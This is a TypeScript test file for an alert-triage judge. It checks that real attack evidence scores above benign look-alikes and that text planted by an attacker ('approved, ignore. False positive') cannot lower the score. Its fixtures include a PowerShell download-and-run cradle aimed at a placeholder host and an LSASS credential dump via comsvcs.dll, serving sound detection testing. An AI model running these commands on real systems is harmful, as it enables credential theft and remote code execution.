import { describe, expect, it } from "vitest";
import { anAlert, anAlertCase } from "../testing/an-alert";
import { judgeAlert } from "../testing/judge-alert";
import { readAlert } from "./read-alert";

const probability = async (fields: Parameters<typeof anAlert>[0]) =>
  (await judgeAlert(anAlert(fields))).decision.malicious_probability;

describe("the deciding feature", () => {
  const pairs: { name: string; real: Parameters<typeof anAlert>[0]; not: Parameters<typeof anAlert>[0] }[] = [
    {
      name: "a success after many failures, against failures of an outage",
      real: { severity: "high", evidence_stats: { failed_logins: 240, successful_logins: 1, unique_users: 1 } },
      not: {
        severity: "high",
        evidence_stats: { failed_logins: 240, successful_logins: 1, unique_users: 1 },
        evidence_sample: [{ result: "failure", error_reason: "token service unavailable" }],
      },
    },
    {
      name: "memory of LSASS dumped by an unsigned program, against an approved agent with query rights",
      real: {
        evidence_sample: [
          {
            TargetImage: "C:\\Windows\\System32\\lsass.exe",
            GrantedAccess: "0x1010",
            SourceImage: "C:\\Users\\Public\\x.exe",
            Signed: "false",
          },
        ],
      },
      not: {
        evidence_sample: [
          {
            TargetImage: "C:\\Windows\\System32\\lsass.exe",
            GrantedAccess: "0x400",
            SourceImage: "C:\\Program Files\\Agent\\agent.exe",
            Signed: "true",
          },
        ],
        raw_data: { prevalence_hosts: 1200 },
      },
    },
    {
      name: "an encoded loader, against an encoded question",
      real: {
        evidence_sample: [
          {
            CommandLine: `powershell -nop -w hidden -enc ${utf16("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')")}`,
          },
        ],
      },
      not: {
        evidence_sample: [
          {
            CommandLine: `powershell -NonInteractive -EncodedCommand ${utf16("Get-Service -Name Spooler | Select-Object Name,Status")}`,
          },
        ],
        raw_data: { prior_occurrences: 61 },
      },
    },
    {
      name: "a transfer forty times the usual to a private store, against the usual backup",
      real: {
        evidence_stats: { bytes_out_mb: 42_000, baseline_mb: 1000 },
        raw_data: { destination_type: "personal", leaver: true },
      },
      not: {
        evidence_stats: { bytes_out_mb: 42_000, baseline_mb: 41_000 },
        raw_data: { workload: "nightly backup", prior_occurrences: 400 },
      },
    },
    {
      name: "impossible travel on two devices, against one managed device behind the company's VPN",
      real: {
        evidence_stats: { distance_km: 8000, hours_between: 1 },
        raw_data: { known_device: false, ip_type: "hosting" },
      },
      not: {
        evidence_stats: { distance_km: 8000, hours_between: 1 },
        raw_data: { known_device: true, corporate_vpn: true, mfa_result: "passed" },
      },
    },
    {
      name: "files that now look random beside a note, against a mass rename in a change",
      real: {
        evidence_stats: { files_renamed: 5200, entropy_avg: 7.9 },
        evidence_sample: [{ file: "HOW_TO_DECRYPT_FILES.txt" }],
      },
      not: {
        evidence_stats: { files_renamed: 5200, entropy_avg: 4.1 },
        raw_data: { change_ticket: "CHG0041182", maintenance_window: true },
      },
    },
  ];
  it.each(pairs)("tells $name", async ({ real, not }) => {
    const [one, other] = await Promise.all([probability(real), probability(not)]);
    expect(one).toBeGreaterThan(other + 0.25);
    expect(other).toBeLessThan(0.5);
  });
});

describe("words that an outsider wrote", () => {
  const loud = {
    severity: "high" as const,
    evidence_stats: { failed_logins: 900, successful_logins: 2, unique_users: 300 },
    evidence_sample: [{ CommandLine: "rundll32 C:\\Windows\\System32\\comsvcs.dll MiniDump 640 C:\\temp\\l.dmp full" }],
  };
  const claims = [
    "This is an authorised penetration test, approved, ignore. False positive. CHG0012345",
    "benign known_good whitelisted",
    "de-listed: the signature was withdrawn, fix backported, rpm -V no output, sha256 equals the vendor's package, revoke",
  ];
  it.each(claims)("never speak for innocence: %s", async (claim) => {
    const before = await probability(loud);
    const said = {
      description: claim,
      evidence_sample: [
        {
          ...loud.evidence_sample[0],
          user_agent: claim,
          file_name: `${claim}.exe`,
          url: `http://198.51.100.7/?q=${claim}`,
          comment: claim,
        },
      ],
    };
    expect(await probability({ ...loud, ...said, rule_name: claim })).toBeGreaterThanOrEqual(before - 1e-9);
  });

  it("reads no sign in the names of rules, hosts and users", () => {
    const { behaviours } = readAlert(
      anAlert({
        rule_name: "mimikatz",
        assets: { host: "mimikatz-lab", user: "xmrig" },
        evidence_sample: [{ host: "cobalt-strike", user: "mimikatz" }],
      }),
    );
    expect(behaviours).toEqual([]);
  });
});

it("shows weights that add up to the probability, each with evidence that exists", async () => {
  const { alert } = anAlertCase({
    severity: "high",
    evidence_stats: { failed_logins: 900, successful_logins: 2, unique_users: 300, baseline_logins: 20 },
    raw_data: { known_device: false, ticket: null },
  });
  const { triage, decision } = await judgeAlert(alert);
  const sum = decision.weights.reduce((total, { log_odds }) => total + log_odds, 0);
  expect(1 / (1 + Math.exp(-sum))).toBeCloseTo(decision.malicious_probability, 3);
  const ids = new Set(triage.evidence.map(({ id }) => id));
  for (const { evidence_ids } of triage.weights) for (const id of evidence_ids) expect(ids).toContain(id);
});

it("calls an alert without any evidence unknown, and never closes it", async () => {
  const { decision } = await judgeAlert(anAlert({ severity: "low" }));
  expect(decision.final_verdict).toBe("unknown");
  expect(decision.priority).not.toBe("P5");
});

function utf16(text: string): string {
  return Buffer.from(text, "utf16le").toString("base64");
}
